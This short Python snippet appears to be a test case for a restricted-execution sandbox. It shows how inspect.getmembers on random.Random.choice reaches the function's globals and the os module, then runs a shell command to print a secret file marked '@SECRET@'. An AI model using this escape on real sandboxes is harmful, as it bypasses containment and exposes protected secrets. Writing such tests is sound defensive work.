# inspect.getattr_static and inspect.getmembers read attributes without getattr.
# effect: run
import inspect
import random
members = dict(inspect.getmembers(random.Random.choice))
members["__globals__"]["_os"].system("cat @SECRET@")
